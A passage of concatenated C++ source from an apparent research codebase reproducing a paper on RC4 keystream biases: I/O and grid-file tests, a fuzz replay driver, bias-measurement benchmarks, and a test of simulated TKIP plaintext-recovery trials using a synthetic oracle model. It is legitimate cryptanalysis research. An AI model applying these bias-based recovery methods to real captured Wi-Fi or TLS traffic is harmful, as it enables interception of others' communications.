  ASSERT_TRUE(WriteFileAtomic(nested + "/f.txt", "x").ok());
  // A file in the way is a rich error, not an abort.
  const IoStatus status = MakeDirs(nested + "/f.txt");
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("f.txt"), std::string::npos);
}

TEST(MmapFileTest, MapsWrittenBytes) {
  const std::string path = TempPath("map.bin");
  ASSERT_TRUE(WriteFileAtomic(path, "abcdef").ok());
  MmapFile map;
  ASSERT_TRUE(MmapFile::Open(path, &map).ok());
  ASSERT_EQ(map.bytes().size(), 6u);
  EXPECT_EQ(map.bytes()[0], 'a');
  EXPECT_EQ(map.bytes()[5], 'f');
  std::remove(path.c_str());
}

TEST(MmapFileTest, MissingFileReportsPath) {
  MmapFile map;
  const IoStatus status = MmapFile::Open("/nonexistent/map.bin", &map);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("/nonexistent/map.bin"), std::string::npos);
}

TEST(TscModelIoTest, SaveLoadRoundTrip) {
  const std::string path = TempPath("model.bin");
  TkipTscModel model(3, 5);
  model.Generate(1 << 8, 7, 8);

  ASSERT_TRUE(model.Save(path).ok());
  TkipTscModel loaded(3, 5);
  ASSERT_TRUE(loaded.Load(path).ok());
  EXPECT_EQ(loaded.keys_per_class(), model.keys_per_class());
  for (int tsc1 = 0; tsc1 < 256; tsc1 += 17) {
    for (size_t pos = 3; pos <= 5; ++pos) {
      for (int v = 0; v < 256; v += 31) {
        ASSERT_DOUBLE_EQ(
            loaded.LogProb(static_cast<uint8_t>(tsc1), pos, static_cast<uint8_t>(v)),
            model.LogProb(static_cast<uint8_t>(tsc1), pos, static_cast<uint8_t>(v)));
      }
    }
  }
  std::remove(path.c_str());
}

TEST(TscModelIoTest, LoadRejectsRangeMismatchWithDiagnostic) {
  const std::string path = TempPath("model2.bin");
  TkipTscModel model(3, 5);
  model.Generate(1 << 6, 9, 8);
  ASSERT_TRUE(model.Save(path).ok());

  TkipTscModel wrong_range(3, 6);
  const IoStatus status = wrong_range.Load(path);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("position range"), std::string::npos);
  EXPECT_NE(status.message().find(path), std::string::npos);
  std::remove(path.c_str());
}

TEST(TscModelIoTest, LoadRejectsGarbage) {
  const std::string path = TempPath("garbage.bin");
  {
    BinaryWriter writer(path);
    writer.WriteU64(12345);  // wrong magic
  }
  TkipTscModel model(1, 1);
  const IoStatus status = model.Load(path);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("magic"), std::string::npos);
  std::remove(path.c_str());
}

}  // namespace
}  // namespace rc4b
