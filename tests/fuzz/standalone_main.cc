// Replay driver for the fuzz harnesses on toolchains without libFuzzer
// (RC4B_FUZZ=OFF, the default — gcc has no -fsanitize=fuzzer). Each argument
// is a corpus file or a directory of corpus files; every input is fed once
// through LLVMFuzzerTestOneInput in sorted order. This is what the ctest
// corpus smoke-checks run, so the checked-in seed corpus (including every
// pinned crash input) is exercised by plain `ctest` on every toolchain.
#include <dirent.h>

#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <string>
#include <vector>

#include <sys/stat.h>

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size);

namespace {

bool ReadAll(const std::string& path, std::vector<uint8_t>* out) {
  std::FILE* file = std::fopen(path.c_str(), "rb");
  if (file == nullptr) {
    return false;
  }
  out->clear();
  uint8_t buffer[4096];
  size_t got = 0;
  while ((got = std::fread(buffer, 1, sizeof(buffer), file)) > 0) {
    out->insert(out->end(), buffer, buffer + got);
  }
  std::fclose(file);
  return true;
}

void CollectInputs(const std::string& path, std::vector<std::string>* out) {
  struct stat st;
  if (::stat(path.c_str(), &st) != 0) {
    std::fprintf(stderr, "skipping %s: stat failed\n", path.c_str());
    return;
  }
  if (!S_ISDIR(st.st_mode)) {
    out->push_back(path);
    return;
  }
  ::DIR* dir = ::opendir(path.c_str());
  if (dir == nullptr) {
    return;
  }
  std::vector<std::string> entries;
  while (const struct ::dirent* entry = ::readdir(dir)) {
    const std::string name = entry->d_name;
    if (name != "." && name != "..") {
      entries.push_back(path + "/" + name);
    }
  }
  ::closedir(dir);
  std::sort(entries.begin(), entries.end());
  for (const std::string& entry : entries) {
    CollectInputs(entry, out);
  }
}

}  // namespace

int main(int argc, char** argv) {
  std::vector<std::string> inputs;
  for (int i = 1; i < argc; ++i) {
    CollectInputs(argv[i], &inputs);
  }
  if (inputs.empty()) {
    std::fprintf(stderr, "usage: %s <corpus-file-or-dir>...\n", argv[0]);
    return 2;
  }
  std::vector<uint8_t> bytes;
  for (const std::string& input : inputs) {
    if (!ReadAll(input, &bytes)) {
      std::fprintf(stderr, "failed to read %s\n", input.c_str());
      return 2;
    }
    LLVMFuzzerTestOneInput(bytes.data(), bytes.size());
  }
  std::printf("replayed %zu input(s) cleanly\n", inputs.size());
  return 0;
}
