// Fig. 4 — Fluhrer–McGrew digraph biases in the *initial* keystream bytes.
// Regenerates a consec-style dataset over positions 1..288 and reports the
// absolute relative bias |q| of each FM digraph family versus its expected
// single-byte-based probability, averaged over position windows (the paper's
// per-position plot needs ~2^45 keys; windows recover the convergence shape
// at laptop scale).
#include <cstdio>
#include <vector>

#include "bench/harness.h"
#include "src/biases/bias_scan.h"
#include "src/biases/dataset.h"
#include "src/biases/fluhrer_mcgrew.h"
#include "src/common/flags.h"

namespace rc4b {
namespace {

struct Family {
  const char* name;
  // Returns the digraph cell for counter i, or -1 if the family does not
  // apply at this counter.
  int (*cell)(int i);
  double long_term_q;
};

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "keys",
                            .count_default = "0x10000000",
                            .count_help = "RC4 keys (2^28; paper used 2^45)",
                            .seed_default = "4",
                            .seed_help = "dataset seed"};
  FlagSet flags("Fig. 4: FM digraph relative biases in initial keystream bytes");
  DefineScaleFlags(flags, scale)
      .Define("positions", "288", "initial positions to cover")
      .Define("window", "32", "positions averaged per reported point")
      .Define("grid-cache", "",
              "warm-start: load-or-store the dataset grid in this directory "
              "(docs/store.md)");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const size_t positions = flags.GetUint("positions");
  const size_t window = flags.GetUint("window");
  const auto [keys, workers, seed, interleave, kernel] = GetScaleFlags(flags, scale);
  DatasetOptions options;
  options.keys = keys;
  options.workers = workers;
  options.seed = seed;
  options.interleave = interleave;
  options.kernel = kernel;
  options.cache_dir = flags.GetString("grid-cache");

  bench::PrintHeader("bench_fig4_fm_shortterm",
                     "Fig. 4 (FM digraphs vs expected single-byte probability)",
                     "per-window mean relative bias q; expect convergence "
                     "toward the long-term Table 1 values after position 257");

  const auto grid = GenerateConsecutiveDataset(positions, options);

  static const Family kFamilies[] = {
      {"(0,0)", [](int i) { return i == 255 ? -1 : 0; }, 0x1.0p-8},
      {"(0,1)", [](int i) { return (i == 0 || i == 1) ? -1 : 1; }, 0x1.0p-8},
      {"(0,i+1)",
       [](int i) { return (i == 0 || i == 255) ? -1 : ((i + 1) & 0xff); }, -0x1.0p-8},
      {"(i+1,255)",
       [](int i) { return i == 254 ? -1 : (((i + 1) & 0xff) * 256 + 255); }, 0x1.0p-8},
      {"(255,i+1)",
       [](int i) { return (i == 1 || i == 254) ? -1 : (255 * 256 + ((i + 1) & 0xff)); },
       0x1.0p-8},
      {"(255,i+2)",
       [](int i) { return (i >= 1 && i <= 252) ? (255 * 256 + i + 2) : -1; }, 0x1.0p-8},
      {"(255,255)", [](int i) { return i == 254 ? -1 : (255 * 256 + 255); }, -0x1.0p-8},
  };

  std::printf("%-12s", "positions");
  for (const auto& family : kFamilies) {
    std::printf(" %12s", family.name);
  }
  std::printf("\n");
  for (size_t start = 1; start + window - 1 <= positions - 1; start += window) {
    std::printf("%4zu-%-7zu", start, start + window - 1);
    for (const auto& family : kFamilies) {
      double sum_q = 0.0;
      int used = 0;
      for (size_t r = start; r < start + window; ++r) {
        const int i = static_cast<int>(r & 0xff);  // counter at position r
        const int cell = family.cell(i);
        if (cell < 0) {
          continue;
        }
        sum_q += RelativeBias(grid, r - 1, static_cast<uint8_t>(cell / 256),
                              static_cast<uint8_t>(cell % 256));
        ++used;
      }
      if (used == 0) {
        std::printf(" %12s", "-");
      } else {
        std::printf(" %+12.5f", sum_q / used);
      }
    }
    std::printf("\n");
  }
  std::printf("\nlong-term q ");
  for (const auto& family : kFamilies) {
    std::printf(" %+12.5f", family.long_term_q);
  }
  std::printf("\n(noise per window ~ %.5f at these key counts; increase --keys "
              "to sharpen)\n",
              1.0 / std::sqrt(static_cast<double>(options.keys) / 65536.0 *
                              static_cast<double>(window)));
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
