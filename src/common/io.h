// File I/O for datasets and models: rich error reporting, atomic
// write-rename, and read-only memory maps. Expensive artifacts (per-TSC
// models, keystream grids, checkpoints) are generated once and reused across
// runs, so every failure carries the path and errno context it happened at,
// and every writer lands its output atomically — a crashed or killed process
// never leaves a torn file behind (src/store/ checkpoints rely on this).
// Binary formats are little-endian, magic + version headers, raw arrays; not
// portable across endianness (research tooling, not a wire format).
#ifndef SRC_COMMON_IO_H_
#define SRC_COMMON_IO_H_

#include <cstdint>
#include <cstdio>
#include <span>
#include <string>
#include <string_view>
#include <vector>

namespace rc4b {

// Failure classification carried alongside the message. The campaign
// scheduler and the grid tools map it onto distinct process exit codes
// (src/common/retry.h): transient failures (syscall errors, lost leases) are
// worth retrying on the same input, data failures (corrupt file, provenance
// mismatch) never are.
enum class IoErrorKind : uint8_t {
  kData = 0,   // corrupt input / bad provenance / usage — retry cannot help
  kTransient,  // environment failure (I/O, lease lost) — retry may succeed
};

// Success or a human-readable failure with path + errno context. Replaces
// the old bare-bool results: a failed load now says *which* file and *why*
// ("open /data/sb.grid: No such file or directory"), which is what shard
// operators and the grid_merge tool surface to the user.
struct IoStatus {
  std::string error;  // empty == success
  IoErrorKind kind = IoErrorKind::kData;

  bool ok() const { return error.empty(); }
  bool transient() const { return !ok() && kind == IoErrorKind::kTransient; }
  const std::string& message() const { return error; }

  static IoStatus Ok() { return IoStatus{}; }
  static IoStatus Fail(std::string message) { return IoStatus{std::move(message)}; }
  static IoStatus Transient(std::string message) {
    return IoStatus{std::move(message), IoErrorKind::kTransient};
  }
  // "op path: strerror(errno)" — call immediately after the failing syscall.
  // Classified transient: errno failures describe the environment, not the
  // data, so a retry (possibly on another host) may succeed.
  static IoStatus FromErrno(std::string_view op, std::string_view path);
};

// Writes `data` to `path` atomically: the bytes land in `path + ".tmp"` and
// are renamed over `path` only after a successful flush, so readers never
// observe a partial file. Used for manifests, checkpoints and BENCH_*.json.
IoStatus WriteFileAtomic(const std::string& path, std::string_view data);

// mkdir -p: creates `path` and any missing parents; existing directories are
// not an error.
IoStatus MakeDirs(const std::string& path);

// Binary writer with atomic commit: all writes go to a writer-unique temp
// file next to `path`; Commit() flushes and renames onto `path`. The temp
// name embeds the pid and a process-wide counter so concurrent writers
// targeting the same destination (e.g. two GridCache fills racing on one
// cache entry) never interleave bytes in a shared temp file — each commits
// its own complete image and the last rename wins. The destructor commits
// best-effort if the stream is healthy and Commit() was never called (legacy
// scope-based usage), and deletes the temp file if any write failed — a
// half-written artifact never replaces a good one.
class BinaryWriter {
 public:
  explicit BinaryWriter(const std::string& path);
  ~BinaryWriter();

  BinaryWriter(const BinaryWriter&) = delete;
  BinaryWriter& operator=(const BinaryWriter&) = delete;

  bool ok() const { return status_.ok(); }
  const IoStatus& status() const { return status_; }

  // Where bytes land until Commit() renames them onto the destination.
  const std::string& tmp_path() const { return tmp_path_; }

  void WriteU64(uint64_t v);
  void WriteDoubles(std::span<const double> values);
  void WriteU64s(std::span<const uint64_t> values);
  void WriteBytes(std::span<const uint8_t> bytes);

  // Flush + close + rename. Returns the first error the stream hit (write,
  // flush, or rename); after Commit() the writer is inert.
  IoStatus Commit();

  // Commit() with crash durability: fsync the temp file before the rename
  // and fsync the parent directory after it, so a host crash immediately
  // after the call cannot resurrect the pre-rename file. Checkpoints and
  // final shard grids use this — a resumed worker must never trust a
  // checkpoint newer than what the disk actually holds.
  IoStatus CommitDurable();

 private:
  IoStatus CommitImpl(bool durable);
  void Write(const void* data, size_t bytes, const char* what);
  void Abandon();  // close + unlink the temp file

  std::string path_;
  std::string tmp_path_;
  std::FILE* file_ = nullptr;
  IoStatus status_;
  bool finished_ = false;
};

class BinaryReader {
 public:
  explicit BinaryReader(const std::string& path);
  ~BinaryReader();

  BinaryReader(const BinaryReader&) = delete;
  BinaryReader& operator=(const BinaryReader&) = delete;

  // ok() turns false on the first failed read; status() says which read and
  // on which file.
  bool ok() const { return status_.ok(); }
  const IoStatus& status() const { return status_; }

  uint64_t ReadU64();
  bool ReadDoubles(std::span<double> out);
  bool ReadU64s(std::span<uint64_t> out);

 private:
  bool Read(void* out, size_t bytes, const char* what);

  std::string path_;
  std::FILE* file_ = nullptr;
  IoStatus status_;
};

// Read-only memory map of a whole file. The grid store parses headers and
// sums counter sections straight out of the map — merging N shard grids
// touches each cell exactly once with no intermediate copies.
class MmapFile {
 public:
  MmapFile() = default;
  ~MmapFile();

  MmapFile(MmapFile&& other) noexcept;
  MmapFile& operator=(MmapFile&& other) noexcept;
  MmapFile(const MmapFile&) = delete;
  MmapFile& operator=(const MmapFile&) = delete;

  // Maps `path` read-only into *out (replacing any previous mapping).
  static IoStatus Open(const std::string& path, MmapFile* out);

  std::span<const uint8_t> bytes() const {
    return std::span<const uint8_t>(static_cast<const uint8_t*>(data_), size_);
  }

 private:
  void Reset();

  void* data_ = nullptr;
  size_t size_ = 0;
};

}  // namespace rc4b

#endif  // SRC_COMMON_IO_H_
