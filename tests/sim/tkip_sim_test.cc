#include "src/sim/tkip_sim.h"

#include <gtest/gtest.h>

#include <cmath>

#include "src/sim/runner.h"

namespace rc4b::sim {
namespace {

// Deterministic oracle model over the injected packet's trailer positions:
// keystream leans toward a TSC1- and position-dependent value, strongly
// enough that a few thousand captures pin the trailer (same construction as
// tests/tkip/attack_test.cc).
TkipTscModel StrongModel(double boost) {
  const Bytes msdu = InjectedPacket();
  const size_t first = msdu.size() + 1;
  const size_t last = msdu.size() + kTkipTrailerSize;
  TkipTscModel model(first, last);
  for (int tsc1 = 0; tsc1 < 256; ++tsc1) {
    for (size_t pos = first; pos <= last; ++pos) {
      std::vector<double> p(256, (1.0 - (1.0 / 256 + boost)) / 255.0);
      p[(tsc1 * 31 + static_cast<int>(pos)) & 0xff] = 1.0 / 256 + boost;
      model.SetRow(static_cast<uint8_t>(tsc1), pos, p);
    }
  }
  return model;
}

TkipSimOptions SmallOptions() {
  TkipSimOptions options;
  options.checkpoints = {4096};
  options.trials = 3;
  options.seed = 77;
  options.oracle_model = true;
  return options;
}

TEST(TkipSimTest, AggregatesBitExactAcrossWorkerCounts) {
  const TkipTscModel model = StrongModel(0.2);
  TkipSimOptions options = SmallOptions();

  options.workers = 1;
  const auto one = RunTkipSimulations(model, options);
  for (unsigned workers : {2u, 4u}) {
    options.workers = workers;
    const auto many = RunTkipSimulations(model, options);
    EXPECT_TRUE(one == many) << "workers=" << workers;
  }
}

TEST(TkipSimTest, MatchesSingleThreadedReferenceAtFixedSeed) {
  // The runner's contract: the aggregate equals folding RunTkipTrial over
  // TrialRng(seed, t) serially, in trial order.
  const TkipTscModel model = StrongModel(0.2);
  TkipSimOptions options = SmallOptions();
  options.workers = 3;
  const auto aggregate = RunTkipSimulations(model, options);

  ASSERT_EQ(aggregate.checkpoints.size(), options.checkpoints.size());
  ASSERT_EQ(aggregate.icv_positions[0].size(), options.trials);
  uint64_t budget_wins = 0, two_wins = 0;
  for (uint64_t t = 0; t < options.trials; ++t) {
    Xoshiro256 rng = TrialRng(options.seed, t);
    const auto points = RunTkipTrial(model, options, rng);
    ASSERT_EQ(points.size(), 1u);
    EXPECT_EQ(points[0].packets, options.checkpoints[0]);
    EXPECT_EQ(points[0].first_icv_position, aggregate.icv_positions[0][t])
        << "trial " << t;
    budget_wins += points[0].success_with_budget ? 1 : 0;
    two_wins += points[0].success_with_two ? 1 : 0;
  }
  EXPECT_EQ(aggregate.budget_wins[0], budget_wins);
  EXPECT_EQ(aggregate.two_wins[0], two_wins);
}

TEST(TkipSimTest, StrongOracleModelRecoversTheTrailer) {
  // With a heavily biased model, 4096 captures put the true trailer at the
  // top of the candidate list in every trial: no NaN-poisoned table or
  // broken rank evaluation could produce this.
  const TkipTscModel model = StrongModel(0.2);
  TkipSimOptions options = SmallOptions();
  options.workers = 2;
  const auto aggregate = RunTkipSimulations(model, options);
  EXPECT_EQ(aggregate.two_wins[0], options.trials);
  EXPECT_EQ(aggregate.budget_wins[0], options.trials);
  for (double position : aggregate.icv_positions[0]) {
    EXPECT_TRUE(std::isfinite(position));
    EXPECT_GE(position, 0.0);
  }
}

}  // namespace
}  // namespace rc4b::sim
