// Shared retry/backoff policy and the process exit-code contract of the grid
// tools and campaign workers. The campaign scheduler decides "retry or
// quarantine?" purely from these two signals, so every tool in the pipeline
// classifies failures the same way (docs/orchestrate.md):
//
//   0   success
//   1   fatal — corrupt input, bad provenance, usage; retrying cannot help
//   3   degraded — campaign finished but quarantined shards (partial merge)
//   75  retryable — transient I/O, lost lease (EX_TEMPFAIL convention)
#ifndef SRC_COMMON_RETRY_H_
#define SRC_COMMON_RETRY_H_

#include <cstdint>

#include "src/common/io.h"

namespace rc4b {

inline constexpr int kExitOk = 0;
inline constexpr int kExitFatal = 1;
inline constexpr int kExitDegraded = 3;
inline constexpr int kExitRetryable = 75;

// Maps a status onto the exit-code contract above: ok -> 0, transient
// (I/O, lease lost) -> 75, data/provenance -> 1.
int ExitCodeForStatus(const IoStatus& status);

// Capped exponential backoff with deterministic jitter. Like every random
// stream in this codebase the jitter is seeded, not sampled: the same
// (jitter_seed, salt, attempt) triple always backs off identically, so a
// replayed campaign schedules identically, while different salts (shard
// indices) spread their retries instead of thundering in lockstep.
struct RetryPolicy {
  uint32_t max_attempts = 4;     // total launches per shard before quarantine
  uint64_t base_delay_ms = 100;  // backoff after the first failure
  uint64_t max_delay_ms = 5000;  // cap on any single backoff
  uint64_t jitter_seed = 1;      // jitter stream identity

  // Backoff to wait after `attempt` failures (attempt >= 1): exponential
  // base_delay_ms * 2^(attempt-1), plus jitter in [0, delay/2], both capped
  // at max_delay_ms.
  uint64_t DelayMs(uint32_t attempt, uint64_t salt) const;
};

}  // namespace rc4b

#endif  // SRC_COMMON_RETRY_H_
