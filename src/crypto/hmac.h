// HMAC-SHA1 (RFC 2104) — the record MAC of the TLS_RSA_WITH_RC4_128_SHA
// cipher suite used throughout the paper's TLS attack.
#ifndef SRC_CRYPTO_HMAC_H_
#define SRC_CRYPTO_HMAC_H_

#include <array>
#include <cstdint>
#include <span>

#include "src/crypto/sha1.h"

namespace rc4b {

class HmacSha1 {
 public:
  static constexpr size_t kDigestSize = Sha1::kDigestSize;

  explicit HmacSha1(std::span<const uint8_t> key);

  void Update(std::span<const uint8_t> data);
  std::array<uint8_t, kDigestSize> Finish();

  static std::array<uint8_t, kDigestSize> Digest(std::span<const uint8_t> key,
                                                 std::span<const uint8_t> data);

 private:
  std::array<uint8_t, Sha1::kBlockSize> ipad_key_{};
  std::array<uint8_t, Sha1::kBlockSize> opad_key_{};
  Sha1 inner_;
};

}  // namespace rc4b

#endif  // SRC_CRYPTO_HMAC_H_
