#include "src/store/grid_file.h"

#include <cstdio>
#include <fstream>
#include <string>

#include <gtest/gtest.h>

#include "src/store/shard_runner.h"

namespace rc4b::store {
namespace {

std::string TempPath(const char* name) {
  return std::string(::testing::TempDir()) + "/" + name;
}

GridMeta SmallMeta(GridKind kind) {
  GridMeta meta;
  meta.kind = kind;
  meta.seed = 11;
  meta.key_begin = 0;
  meta.key_end = 512;
  switch (kind) {
    case GridKind::kSingleByte:
    case GridKind::kConsecutive:
      meta.rows = 8;
      break;
    case GridKind::kPair:
      meta.pairs = {{1, 3}, {2, 257}};
      meta.rows = meta.pairs.size();
      break;
    case GridKind::kLongTermDigraph:
      meta.rows = 256;
      meta.key_end = 4;
      meta.drop = 256;
      meta.bytes_per_key = 2048;
      break;
  }
  return meta;
}

// Flips one byte of the file at `offset` (negative: from the end).
void CorruptByte(const std::string& path, long offset) {
  std::fstream file(path, std::ios::in | std::ios::out | std::ios::binary);
  ASSERT_TRUE(file.good());
  file.seekg(offset, offset < 0 ? std::ios::end : std::ios::beg);
  char byte = 0;
  file.read(&byte, 1);
  byte ^= 0x40;
  file.seekp(offset, offset < 0 ? std::ios::end : std::ios::beg);
  file.write(&byte, 1);
}

TEST(GridFileTest, RoundTripsEveryKindBitExactly) {
  for (const GridKind kind :
       {GridKind::kSingleByte, GridKind::kConsecutive, GridKind::kPair,
        GridKind::kLongTermDigraph}) {
    SCOPED_TRACE(GridKindName(kind));
    const std::string path = TempPath("roundtrip.grid");
    const StoredGrid grid = GenerateStoredGrid(SmallMeta(kind), 2, 0);
    ASSERT_TRUE(WriteGridFile(path, grid.meta, grid.cells).ok());

    StoredGrid loaded;
    ASSERT_TRUE(ReadGridFile(path, &loaded).ok());
    EXPECT_EQ(loaded.meta, grid.meta);
    ASSERT_EQ(loaded.cells.size(), grid.cells.size());
    EXPECT_TRUE(std::equal(loaded.cells.begin(), loaded.cells.end(),
                           grid.cells.begin()));

    // The zero-copy view sees the same data.
    GridFileView view;
    ASSERT_TRUE(view.Open(path).ok());
    EXPECT_EQ(view.meta(), grid.meta);
    ASSERT_EQ(view.cells().size(), grid.cells.size());
    std::remove(path.c_str());
  }
}

TEST(GridFileTest, RejectsTruncatedFile) {
  const std::string path = TempPath("truncated.grid");
  const StoredGrid grid =
      GenerateStoredGrid(SmallMeta(GridKind::kSingleByte), 1, 0);
  ASSERT_TRUE(WriteGridFile(path, grid.meta, grid.cells).ok());

  std::ifstream in(path, std::ios::binary);
  std::string bytes((std::istreambuf_iterator<char>(in)),
                    std::istreambuf_iterator<char>());
  in.close();
  ASSERT_TRUE(
      WriteFileAtomic(path, std::string_view(bytes).substr(0, bytes.size() - 9))
          .ok());

  StoredGrid loaded;
  const IoStatus status = ReadGridFile(path, &loaded);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("truncated"), std::string::npos);
  EXPECT_NE(status.message().find(path), std::string::npos);
  std::remove(path.c_str());
}

TEST(GridFileTest, RejectsFlippedCellByte) {
  const std::string path = TempPath("flipped.grid");
  const StoredGrid grid =
      GenerateStoredGrid(SmallMeta(GridKind::kSingleByte), 1, 0);
  ASSERT_TRUE(WriteGridFile(path, grid.meta, grid.cells).ok());
  CorruptByte(path, -5);  // inside the cells section

  StoredGrid loaded;
  const IoStatus status = ReadGridFile(path, &loaded);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("cells section checksum"), std::string::npos);
  std::remove(path.c_str());
}

TEST(GridFileTest, RejectsFlippedMetaByte) {
  const std::string path = TempPath("flipped-meta.grid");
  const StoredGrid grid =
      GenerateStoredGrid(SmallMeta(GridKind::kConsecutive), 1, 0);
  ASSERT_TRUE(WriteGridFile(path, grid.meta, grid.cells).ok());
  CorruptByte(path, 56 + 8);  // the seed field of the meta section

  StoredGrid loaded;
  const IoStatus status = ReadGridFile(path, &loaded);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("meta section checksum"), std::string::npos);
  std::remove(path.c_str());
}

TEST(GridFileTest, RejectsWrongFormatVersion) {
  const std::string path = TempPath("version.grid");
  const StoredGrid grid =
      GenerateStoredGrid(SmallMeta(GridKind::kSingleByte), 1, 0);
  ASSERT_TRUE(WriteGridFile(path, grid.meta, grid.cells).ok());
  CorruptByte(path, 8);  // the version field

  StoredGrid loaded;
  const IoStatus status = ReadGridFile(path, &loaded);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("format version"), std::string::npos);
  std::remove(path.c_str());
}

TEST(GridFileTest, RejectsNonGridFile) {
  const std::string path = TempPath("notagrid.grid");
  ASSERT_TRUE(WriteFileAtomic(path, std::string(128, 'x')).ok());
  StoredGrid loaded;
  const IoStatus status = ReadGridFile(path, &loaded);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("bad magic"), std::string::npos);
  std::remove(path.c_str());
}

TEST(GridFileTest, CheckSameDatasetNamesTheMismatchedField) {
  const GridMeta want = SmallMeta(GridKind::kSingleByte);
  GridMeta got = want;
  got.seed = 99;
  IoStatus status = CheckSameDataset(want, got, "ctx");
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("seed"), std::string::npos);

  got = want;
  got.kind = GridKind::kConsecutive;
  status = CheckSameDataset(want, got, "ctx");
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("kind"), std::string::npos);

  // Key range, samples and interleave may differ between slices.
  got = want;
  got.key_begin = 100;
  got.key_end = 200;
  got.samples = 7;
  got.interleave = 4;
  EXPECT_TRUE(CheckSameDataset(want, got, "ctx").ok());
}

TEST(GridFileTest, ToGridRebuildsProbabilities) {
  const StoredGrid stored =
      GenerateStoredGrid(SmallMeta(GridKind::kSingleByte), 2, 0);
  const SingleByteGrid grid = ToSingleByteGrid(stored);
  EXPECT_EQ(grid.keys(), stored.meta.samples);
  double total = 0;
  for (int v = 0; v < 256; ++v) {
    total += grid.Probability(0, static_cast<uint8_t>(v));
  }
  EXPECT_NEAR(total, 1.0, 1e-12);
}

}  // namespace
}  // namespace rc4b::store
