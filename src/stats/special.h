// Special functions backing the hypothesis tests in Sect. 3.1: regularized
// incomplete gamma (chi-squared tail), normal distribution tails, and
// log-binomial helpers. Implemented from the standard series / continued
// fraction expansions.
#ifndef SRC_STATS_SPECIAL_H_
#define SRC_STATS_SPECIAL_H_

namespace rc4b {

// Regularized upper incomplete gamma Q(a, x) = Γ(a, x) / Γ(a), for a > 0,
// x >= 0. Chi-squared survival function: P[X² ≥ x | k df] = Q(k/2, x/2).
double RegularizedGammaQ(double a, double x);

// Chi-squared survival function with `df` degrees of freedom.
double ChiSquaredSurvival(double statistic, double df);

// Standard normal CDF and survival function.
double NormalCdf(double z);
double NormalSurvival(double z);

// Two-sided normal p-value: 2 * P[|Z| >= |z|].
double TwoSidedNormalPValue(double z);

// log(n choose k) via lgamma.
double LogBinomialCoefficient(double n, double k);

}  // namespace rc4b

#endif  // SRC_STATS_SPECIAL_H_
