// Fig. 5 — influence of Z1 and Z2 on all initial keystream bytes: the six
// bias families of Sect. 3.3.2 plus the Z1/Z2 pair biases A-D. Regenerates a
// first16-style pair dataset for (Z1, Zi) and (Z2, Zi) and reports the
// relative bias of each family per position band.
#include <cstdio>
#include <vector>

#include "bench/harness.h"
#include "src/biases/bias_scan.h"
#include "src/biases/dataset.h"
#include "src/common/flags.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "keys",
                            .count_default = "0x20000000",
                            .count_help = "RC4 keys (2^29; paper used 2^44)",
                            .seed_default = "5",
                            .seed_help = "dataset seed"};
  FlagSet flags("Fig. 5: biases induced by the first two keystream bytes");
  DefineScaleFlags(flags, scale)
      .Define("max-position", "256", "largest i for (Z1, Zi)/(Z2, Zi)")
      .Define("window", "32", "positions per reported band");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const uint32_t max_position = static_cast<uint32_t>(flags.GetUint("max-position"));
  const size_t window = flags.GetUint("window");
  const auto [keys, workers, seed, interleave, kernel] = GetScaleFlags(flags, scale);
  DatasetOptions options;
  options.keys = keys;
  options.workers = workers;
  options.seed = seed;
  options.interleave = interleave;
  options.kernel = kernel;

  bench::PrintHeader("bench_fig5_z1z2_influence",
                     "Fig. 5 (six Z1/Z2-induced bias families) + Sect. 3.3.2 "
                     "pair biases A-D",
                     "relative bias vs single-byte expectation, averaged per "
                     "position band; paper signs: 1,2,4 positive; 3,5,6 negative");

  // Rows 0..(n-1): (Z1, Zi); rows n..2n-1: (Z2, Zi), i = 3..max_position.
  std::vector<std::pair<uint32_t, uint32_t>> pairs;
  for (uint32_t i = 3; i <= max_position; ++i) {
    pairs.emplace_back(1, i);
  }
  const size_t z2_base = pairs.size();
  for (uint32_t i = 3; i <= max_position; ++i) {
    pairs.emplace_back(2, i);
  }
  const size_t z1z2_row = pairs.size();
  pairs.emplace_back(1, 2);
  const auto grid = GeneratePairDataset(pairs, options);

  struct Band {
    double sum[6] = {0, 0, 0, 0, 0, 0};
    int used[6] = {0, 0, 0, 0, 0, 0};
  };
  std::printf("%-12s %10s %10s %10s %10s %10s %10s\n", "positions", "1:Z1,Zi=0",
              "2:Z1,Zi=i", "3:Z1,Zi=257-i", "4:Z1,Zi=1", "5:Z2=0,Zi=0",
              "6:Z2=0,Zi=i");
  for (uint32_t start = 3; start + window - 1 <= max_position; start += window) {
    Band band;
    for (uint32_t i = start; i < start + window; ++i) {
      const size_t row1 = i - 3;            // (Z1, Zi)
      const size_t row2 = z2_base + i - 3;  // (Z2, Zi)
      const uint8_t v257mi = static_cast<uint8_t>((257 - i) & 0xff);
      const uint8_t vi = static_cast<uint8_t>(i & 0xff);
      const double families[6] = {
          RelativeBias(grid, row1, v257mi, 0),       // 1) Z1=257-i, Zi=0
          RelativeBias(grid, row1, v257mi, vi),      // 2) Z1=257-i, Zi=i
          RelativeBias(grid, row1, v257mi, v257mi),  // 3) Z1=257-i, Zi=257-i
          RelativeBias(grid, row1, static_cast<uint8_t>((i - 1) & 0xff), 1),
          RelativeBias(grid, row2, 0, 0),            // 5) Z2=0, Zi=0
          RelativeBias(grid, row2, 0, vi),           // 6) Z2=0, Zi=i
      };
      for (int f = 0; f < 6; ++f) {
        band.sum[f] += families[f];
        ++band.used[f];
      }
    }
    std::printf("%4u-%-7u", start, start + static_cast<uint32_t>(window) - 1);
    for (int f = 0; f < 6; ++f) {
